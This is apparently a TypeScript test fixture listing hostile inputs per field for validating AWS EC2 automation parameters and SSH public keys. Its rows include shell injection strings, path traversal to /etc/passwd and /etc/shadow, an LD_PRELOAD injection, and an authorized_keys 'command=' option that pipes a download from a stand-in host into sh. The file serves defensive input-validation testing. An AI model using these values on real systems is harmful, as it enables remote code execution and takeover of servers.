/**
 * Hostile values, per field, shared by the document and the handler tables.
 *
 * Each row is [label, value]. Labels say what the value tries; they never contain the value
 * (a value may be key material).
 */
import { generateKeyPairSync } from 'crypto';
import { makePublicKey, makeTestKeys, type TestKeys } from './secrets';
import { GOOD_EXECUTION, GOOD_INSTANCE, GOOD_SUBNET, GOOD_VOLUME } from './ids';

export type Row = [label: string, value: string];

export const KEYS: TestKeys = makeTestKeys();
export const GOOD_ED25519 = makePublicKey('ed25519');
export const GOOD_RSA = makePublicKey('rsa');

/** The private keys of the table; no refusal message may carry a run of any of them. */
export const PRIVATE_KEYS: string[] = [KEYS.rsaPem, KEYS.ed25519Pem, KEYS.opensshPrivate];

/** Shell and parser tricks appended to (or replacing) a good value. */
export function shellTricks(good: string): Row[] {
  return [
    ['semicolon and a command', `${good};reboot`],
    ['pipe', `${good}|id`],
    ['and-list', `${good}&&id`],
    ['command substitution', `$(id)`],
    ['command substitution after a good value', `${good}$(touch /tmp/pwned)`],
    ['backticks', `${good}\`id\``],
    ['parameter expansion', `${good}\${IFS}id`],
    ['newline and a second command', `${good}\nid`],
    ['trailing newline', `${good}\n`],
    ['carriage return', `${good}\r`],
    ['NUL byte', `${good}\0x`],
    ['trailing space', `${good} `],
    ['single quote', `${good}'`],
    ['double quote', `${good}"`],
    ['redirection', `${good}>/etc/passwd`],
    ['template expression', `${good}{{ automation:EXECUTION_ID }}`],
    ['glob', '*'],
    ['relative path up', '../../etc/passwd'],
    ['absolute path', '/etc/shadow'],
    ['oversized (64 KiB)', good + 'a'.repeat(65536)],
    ...(good.includes('-') ? [['unicode look-alike hyphen', good.replace('-', '\u2010')] as Row] : []),
  ];
}

const empty: Row = ['empty', ''];

export const INSTANCE_ID_ROWS: Row[] = [
  ...shellTricks(GOOD_INSTANCE),
  empty,
  ['too few hex digits', 'i-123'],
  ['too many hex digits', 'i-0123456789abcdef0123'],
  ['upper case', GOOD_INSTANCE.toUpperCase()],
  ['a volume id', GOOD_VOLUME],
  ['an ARN', `arn:aws:ec2:us-east-1:123456789012:instance/${GOOD_INSTANCE}`],
  ['a path after the id', `${GOOD_INSTANCE}/../x`],
  ['prefix only', 'i-'],
  ['two ids', `${GOOD_INSTANCE},i-0123456789abcdef1`],
];

export const EXECUTION_ID_ROWS: Row[] = [
  ...shellTricks(GOOD_EXECUTION),
  empty,
  ['path separator', 'abc/def'],
  ['leading dash (an option)', '-rf'],
  ['space inside', 'abc def'],
  ['over 64 characters', 'a'.repeat(65)],
];

export const SUBNET_ROWS: Row[] = [
  ...shellTricks(GOOD_SUBNET),
  ...shellTricks('CreateNewVPC')
    .filter(([l]) => !['glob', 'relative path up', 'absolute path', 'command substitution'].includes(l))
    .map(([l, v]): Row => [`CreateNewVPC with ${l}`, v]),
  empty,
  ['not hex', 'subnet-xyzxyzxy'],
  ['prefix only', 'subnet-'],
  ['wrong case of a keyword', 'createnewvpc'],
  ['a security group id', 'sg-0123456789abcdef0'],
  ['two subnets', `${GOOD_SUBNET},subnet-0123456789abcdef1`],
];

export const INSTANCE_TYPE_ROWS: Row[] = [
  ...shellTricks('t3.small'),
  empty,
  ['no size', 't3'],
  ['upper case', 'T3.SMALL'],
  ['path', '../t3.small'],
];

export const KEY_TYPE_ROWS: Row[] = [
  ...shellTricks('rsa'),
  empty,
  ['upper case', 'RSA'],
  ['dsa', 'dsa'],
];

export const BACKUP_ROWS: Row[] = [
  ...shellTricks('Snapshot'),
  empty,
  ['lower case', 'snapshot'],
];

export const FLAG_ROWS: Row[] = [
  ['lower case true', 'true'],
  ['one', '1'],
  ['yes', 'yes'],
  ['semicolon', 'True;id'],
  ['trailing newline', 'True\n'],
  ['NUL', 'False\0'],
  empty,
];

function oneLine(pem: string): string {
  return pem.trim().replace(/\r?\n/g, ' ');
}

/** The body of an OpenSSH private key disguised as a public key line. */
function privateBodyAsPublic(): string {
  const body = KEYS.opensshPrivate
    .split('\n')
    .filter((l) => l && !l.startsWith('-----'))
    .join('');
  return `ssh-ed25519 ${body} me@host`;
}

function rsaPublicLine(bits: number): string {
  const { publicKey } = generateKeyPairSync('rsa', { modulusLength: bits });
  const jwk = publicKey.export({ format: 'jwk' });
  const mpint = (b64u: string): Buffer => {
    let b = Buffer.from(b64u, 'base64url');
    if (b[0] & 0x80) b = Buffer.concat([Buffer.from([0]), b]);
    return b;
  };
  const str = (b: Buffer): Buffer => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(b.length);
    return Buffer.concat([len, b]);
  };
  const blob = Buffer.concat([str(Buffer.from('ssh-rsa')), str(mpint(jwk.e as string)), str(mpint(jwk.n as string))]);
  return `ssh-rsa ${blob.toString('base64')} weak@host`;
}

const [edType, edBody] = GOOD_ED25519.split(' ');

export const PUBLIC_KEY_ROWS: Row[] = [
  ['command= option before the key', `command="curl evil.example|sh" ${GOOD_ED25519}`],
  ['no-pty option before the key', `no-pty ${GOOD_ED25519}`],
  ['from= option before the key', `from="*" ${GOOD_ED25519}`],
  ['environment= option', `environment="LD_PRELOAD=/tmp/x.so" ${GOOD_ED25519}`],
  ['two keys on two lines', `${GOOD_ED25519}\n${GOOD_RSA}`],
  ['two keys separated by CRLF', `${GOOD_ED25519}\r\n${GOOD_RSA}`],
  ['two keys on one line', `${GOOD_ED25519} ${GOOD_RSA}`],
  ['a key then an option line', `${GOOD_ED25519}\ncommand="id" ${GOOD_RSA}`],
  ['RSA private key (PEM)', KEYS.rsaPem],
  ['Ed25519 private key (PKCS#8 PEM)', KEYS.ed25519Pem],
  ['OpenSSH private key', KEYS.opensshPrivate],
  ['OpenSSH private key on one line', oneLine(KEYS.opensshPrivate)],
  ['RSA private key on one line', oneLine(KEYS.rsaPem)],
  ['OpenSSH private key body behind a public key type', privateBodyAsPublic()],
  ['command substitution in the comment', `${edType} ${edBody} $(id)`],
  ['backticks in the comment', `${edType} ${edBody} \`id\``],
  ['semicolon in the comment', `${edType} ${edBody} a;reboot`],
  ['newline at the end', `${GOOD_ED25519}\n`],
  ['NUL inside', `${edType} ${edBody}\0 x`],
  ['type differs from the blob', `ssh-rsa ${edBody} x`],
  ['invalid base64', `${edType} AAAA%%%%`],
  ['truncated blob', `${edType} ${edBody.slice(0, 40)}`],
  ['DSA key type', `ssh-dss ${edBody}`],
  ['RSA 1024 (too weak)', rsaPublicLine(1024)],
  ['oversized comment', `${GOOD_ED25519}${'x'.repeat(5000)}`],
  ['oversized (64 KiB)', `${edType} ${'A'.repeat(65536)}`],
  ['type only', edType],
  ['shell only', '$(reboot)'],
];

export const USERS_ROWS: Row[] = [
  ...shellTricks('ec2-user').filter(([l]) => l !== 'trailing space'),
  ['parent directory', '../root'],
  ['path inside a name', 'ec2-user/../../root'],
  ['absolute path', '/etc/passwd'],
  ['home shorthand', '~root'],
  ['empty entry in the list', 'ec2-user,,admin'],
  ['trailing comma', 'ec2-user,'],
  ['only a comma', ','],
  ['upper case', 'Root'],
  ['leading dash (an option)', '-rf'],
  ['33 characters', 'a'.repeat(33)],
  ['too many users', Array.from({ length: 40 }, (_, i) => `u${i}`).join(',')],
  ['space inside a name', 'ec2 user'],
  ['private key pasted in the wrong field', oneLine(KEYS.opensshPrivate)],
];

export const VOLUME_ID_ROWS: Row[] = [
  ...shellTricks(GOOD_VOLUME),
  ['a device path', '/dev/xvdf'],
  ['too few hex digits', 'vol-123'],
  ['upper case', GOOD_VOLUME.toUpperCase()],
  ['an instance id', GOOD_INSTANCE],
  ['prefix only', 'vol-'],
];

export const ROOT_ROWS: Row[] = [
  ['another directory', '/tmp'],
  ['two slashes', '//'],
  ['parent of root', '/..'],
  ['dot', '.'],
  ['relative', 'mnt'],
  ['slash and newline', '/\n'],
  ['leading space', ' /'],
  ['a mount point', '/mnt/target'],
  ['command substitution', '/$(id)'],
  ['NUL', '/\0'],
];

export const ROLE_ARN_ROWS: Row[] = [
  ...shellTricks('arn:aws:iam::123456789012:role/Automation'),
  ['not a role', 'arn:aws:iam::123456789012:user/alice'],
  ['another service', 'arn:aws:s3:::bucket'],
];
